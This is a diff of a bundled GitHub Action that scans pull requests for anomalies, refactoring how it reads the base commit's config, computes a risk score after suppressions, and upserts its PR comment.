@@ -25368,11 +25449,11 @@ function scorePreamble(s) {
  * The workspace holds the PR's version of the config file, so a PR could ignore its own findings. The
  * scan applies the base commit's config instead; the adapter applies the config `run()` returns.
  */
-async function baseConfig(ctx, repo, base, path) {
+async function baseConfig(ctx, git, base, path) {
     const current = ctx.config;
     let text;
     try {
-        text = await readFileAt(repo, await resolveCommit(repo, base, 'base'), path);
+        text = await git.readFileAt(await git.resolveCommit(base, 'base'), path);
     }
     catch {
         return { config: current, notes: [] }; // the scan reports the missing base itself
@@ -25398,7 +25479,6 @@ async function baseConfig(ctx, repo, base, path) {
         };
     }
 }
-const scores = new WeakMap();
 const main_definition = {
     name: 'pr-anomaly-scan',
     rules: rules_REGISTRY,
@@ -25408,34 +25488,37 @@ const main_definition = {
         const meta = prMetaFromEvent(ctx.event, ctx.env.GITHUB_REPOSITORY);
         const base = inputs.string('base') || meta.baseSha || '';
         const head = inputs.string('head') || meta.headSha || 'HEAD';
-        const repo = (0,external_node_path_.resolve)(ctx.workspace, inputs.string('path', { default: '.' }));
+        const git = gitCheckout((0,external_node_path_.resolve)(ctx.workspace, inputs.string('path', { default: '.' })));
         const trustedOrgs = inputs.list('trusted-orgs');
         inputs.boolean('comment', false);
         const token = inputs.string('token');
         if (!base)
             throw new UserError("Input 'base' is required outside pull_request events (the base commit of the comparison).");
-        const { config, notes } = await baseConfig(ctx, repo, base, inputs.string('config') || DEFAULT_CONFIG_PATH);
-        const { allow } = parseSection(config.sections['pr-anomaly-scan'], config.file);
+        const { config, notes } = await baseConfig(ctx, git, base, inputs.string('config') || DEFAULT_CONFIG_PATH);
         const result = await scanPr({
-            repo,
+            git,
             base,
             head,
             meta,
             client: token ? () => ctx.github(token) : undefined,
             noTokenReason: token ? undefined : 'no token given',
             trustedOrgs,
-            allow,
-            configPath: config.file ?? DEFAULT_CONFIG_PATH,
-            today: ctx.today
+            configPath: config.file ?? DEFAULT_CONFIG_PATH
         });
-        scores.set(ctx, result.score);
         return {
             ...result,
             notes: [...notes, ...(result.notes ?? [])],
-            stats: { ...result.stats, 'risk score': `${result.score.score}/10` },
-            outputs: { 'risk-score': String(result.score.score) },
-            preamble: scorePreamble(result.score),
+            suppressions: [...(result.suppressions ?? []), ...allowSuppressions(config)],
             config
+        };
+    },
+    // The score weighs what stands after the config and every suppression, so an allowed fixture adds nothing.
+    summarise(report) {
+        const score = riskScore(report.findings);
+        return {
+            outputs: { 'risk-score': String(score.score) },
+            stats: { 'risk score': `${score.score}/10` },
+            preamble: scorePreamble(score)
         };
     },
     async publish(ctx, report, _markdown) {
@@ -25453,51 +25536,22 @@ const main_definition = {
         if (budget < 2)
             return [`PR comment not posted: the ${MAX_REQUESTS}-request API budget is used up.`];
         const [owner, repo] = meta.repo.split('/');
-        const score = scores.get(ctx);
         const body = renderMarkdown(report, {
             marker: COMMENT_MARKER,
             maxChars: COMMENT_LIMIT,
-            preamble: score ? scorePreamble(score) : undefined,
+            preamble: scorePreamble(riskScore(report.findings)),
             fullReport: 'the job summary and the JSON report artifact'
         });
-        return [
-            await upsertComment(client.rest, { owner, repo, issue: meta.number, body, pages: Math.min(3, budget - 1) })
-        ];
+        try {
+            const target = { kind: 'comment', owner, repo, issue: meta.number, maxPages: Math.min(3, budget - 1) };
+            const r = await upsertMarked(client.rest, target, COMMENT_MARKER, body);
+            return [r.action === 'updated' ? `Updated the PR comment ${r.id}.` : `Posted PR comment ${r.id}.`];
+        }
+        catch (e) {
+            return [`PR comment not posted: ${describeApiError(e, 'pull-requests: write')}`];
+        }
     }
 };
-/** Updates the comment carrying the marker, or creates it; never a second comment per push. */
-async function upsertComment(rest, o) {
-    const marker = `<!-- ${COMMENT_MARKER} -->`;
-    try {
-        let existing;
-        for (let page = 1; page <= o.pages && existing === undefined; page++) {
-            const { data } = await rest.rest.issues.listComments({
-                owner: o.owner,
-                repo: o.repo,
-                issue_number: o.issue,
-                per_page: 100,
-                page
-            });
-            existing = data.find((c) => c.body?.startsWith(marker))?.id;
-            if (data.length < 100)
-                break;
-        }
-        if (existing !== undefined) {
-            await rest.rest.issues.updateComment({ owner: o.owner, repo: o.repo, comment_id: existing, body: o.body });
-            return `Updated the PR comment ${existing}.`;
-        }
-        const { data } = await rest.rest.issues.createComment({
-            owner: o.owner,
-            repo: o.repo,
-            issue_number: o.issue,
-            body: o.body
-        });
-        return `Posted PR comment ${data.id}.`;
-    }
-    catch (e) {
-        return `PR comment not posted: ${describeApiError(e, 'pull-requests: write')}`;
-    }
-}
 async function main_run(runtime) {
     await runAction(main_definition, runtime ?? (await actionsRuntime()));
 }
